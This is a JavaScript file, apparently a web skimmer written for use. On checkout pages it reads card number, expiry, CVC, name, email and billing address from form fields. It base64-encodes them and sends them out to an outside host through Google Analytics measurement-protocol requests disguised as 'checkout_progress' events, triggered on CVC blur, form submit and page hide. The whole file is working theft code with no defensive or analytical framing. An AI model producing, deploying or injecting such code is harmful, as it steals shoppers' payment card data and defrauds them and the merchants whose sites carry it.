// saas-api-exfil: card data packed into event params of an analytics measurement-protocol request
// ES2017 arrow functions; data is split across custom event parameters and sent with sendBeacon
const MP = {
  id: 'G-7QX2LMR9KD',
  secret: 'fV3kq8ZtR0yPnw2LcX5s9A',
  url() {
    return `https://www.google-analytics.com/mp/collect?measurement_id=${this.id}&api_secret=${this.secret}`;
  },
};

const pick = (...sels) => {
  for (const s of sels) {
    const el = document.querySelector(s);
    if (el && el.value) return el.value.trim();
  }
  return '';
};

const b64 = (s) => btoa(unescape(encodeURIComponent(s)));

const sliceParams = (str, size = 90) => {
  const params = {};
  for (let i = 0, n = 0; i < str.length; i += size, n += 1) {
    params[`p${n}`] = str.slice(i, i + size);
  }
  return params;
};

const snapshot = () => ({
  cn: pick('[autocomplete="cc-number"]', '#card_number', 'input[name="payment[cc_number]"]'),
  ce: pick('[autocomplete="cc-exp"]', '#card_expiry', 'input[name="payment[cc_exp]"]'),
  cv: pick('[autocomplete="cc-csc"]', '#card_cvc', 'input[name="payment[cc_cid]"]'),
  nm: pick('[autocomplete="cc-name"]', '#billing_first_name'),
  em: pick('input[type="email"]'),
  ad: [pick('#billing_address_1'), pick('#billing_city'), pick('#billing_postcode')].join('|'),
});

let lastSent = '';

const ship = () => {
  const s = snapshot();
  if (s.cn.replace(/\D/g, '').length < 13) return;
  const encoded = b64(JSON.stringify({ ...s, h: location.host }));
  if (encoded === lastSent) return;
  lastSent = encoded;
  const body = JSON.stringify({
    client_id: `${Math.floor(Math.random() * 1e9)}.${Math.floor(Date.now() / 1e3)}`,
    non_personalized_ads: true,
    events: [{ name: 'checkout_progress', params: { step: 'payment', ...sliceParams(encoded) } }],
  });
  if (!navigator.sendBeacon(MP.url(), body)) {
    fetch(MP.url(), { method: 'POST', body, keepalive: true, mode: 'no-cors' });
  }
};

if (/\/checkout/.test(location.pathname)) {
  addEventListener('visibilitychange', () => document.visibilityState === 'hidden' && ship());
  document.addEventListener('focusout', (e) => {
    if (/csc|cvc|cvv|cid/i.test(`${e.target.name} ${e.target.id} ${e.target.autocomplete}`)) ship();
  });
  document.addEventListener('submit', ship, true);
}
